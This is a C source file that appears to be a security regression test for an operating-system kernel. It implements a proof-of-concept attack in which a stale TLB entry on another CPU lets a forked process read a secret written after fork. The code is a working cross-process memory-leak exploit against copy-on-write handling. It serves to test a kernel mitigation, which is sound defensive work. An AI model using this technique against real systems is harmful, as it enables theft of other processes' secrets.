/*
 * attack_downgrade - against the wall "downgrade": what fork write-protects goes from the TLBs as well.
 *
 * The victim has a thread on CPU 1 that has written to a page. Then it forks the attacker on CPU 0: the page is both
 * processes' now, until one of them writes. The thread writes the secret into it. Where the wall stands, that
 * faults and gets the victim a page of its own; else the entry in CPU 1's TLB, from before the fork, still permits
 * it, and the attacker reads in its own memory what the victim wrote after the fork.
 */
/* run: --smp=2 */
#include "attack.h"
#include "threads.h"

#include <sys/mman.h>

static volatile unsigned char *page;
static unsigned char secret[SECRET];
static int written, draw, drawn[2], loot[2];

static int writes(void *unused)
{
	(void)unused;
	run_on(1);
	for (int i = 0; i < SECRET; i++)
		page[i] = 'x';
	__atomic_store_n(&written, 1, __ATOMIC_SEQ_CST);
	while (!read_word(&draw))
		; /* in ring 3 all the time, so that this CPU keeps its TLB */
	for (int i = 0; i < SECRET; i++)
		page[i] = secret[i];
	sc(SYS_write, drawn[1], "d", 1);
	return 0;
}

static void attacker(void)
{
	unsigned char bytes[SECRET];
	int changed = 0;

	close(2);
	await(drawn[0]);
	for (int i = 0; i < SECRET; i++) {
		bytes[i] = page[i];
		changed |= bytes[i] != 'x';
	}
	_exit(changed && write(loot[1], bytes, SECRET) != SECRET);
}

static void victim(void)
{
	int attacker_pid;

	run_on(0);
	page = mmap(0, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	thread_raw(writes, 0);
	while (!read_word(&written))
		sc(SYS_sched_yield);
	attacker_pid = fork();
	if (attacker_pid == 0)
		attacker();
	victim_draw(secret);
	__atomic_store_n(&draw, 1, __ATOMIC_SEQ_CST);
	wait_for(attacker_pid);
	_exit(0);
}

int main(void)
{
	int victim_pid;

	make_pipe(drawn);
	make_pipe(loot);
	victim_pid = fork();
	if (victim_pid == 0)
		victim();
	close(loot[1]);
	wait_for(victim_pid);
	return report_loot(loot[0]);
}
